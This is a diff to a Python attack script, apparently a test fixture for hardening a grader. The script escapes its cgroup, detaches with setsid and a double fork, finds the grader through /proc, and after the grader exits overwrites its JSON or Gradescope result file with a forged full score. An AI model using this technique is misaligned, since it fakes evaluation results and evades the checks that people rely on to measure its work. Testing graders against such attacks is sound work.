@@ -1,6 +1,6 @@
 """Attack: leaves its cgroup for the root one, detaches (setsid, double fork)
 and, once the grader has exited, overwrites the result file named on the
-grader's command line with a forged full score (marker MARKER)."""
+grader's command line (--json or --gradescope) with a forged full score (marker MARKER)."""
 import ctypes, os, subprocess, sys
 
 DAEMON = r'''
@@ -11,8 +11,9 @@ def grader():
             argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
         except OSError:
             continue
-        if b"--json" in argv and b"grade" in argv:
-            return int(pid), argv[argv.index(b"--json") + 1].decode()
+        for option in (b"--json", b"--gradescope"):
+            if option in argv and b"grade" in argv:
+                return int(pid), argv[argv.index(option) + 1].decode()
     return None, None
 pid, result = grader()
 deadline = time.time() + 60
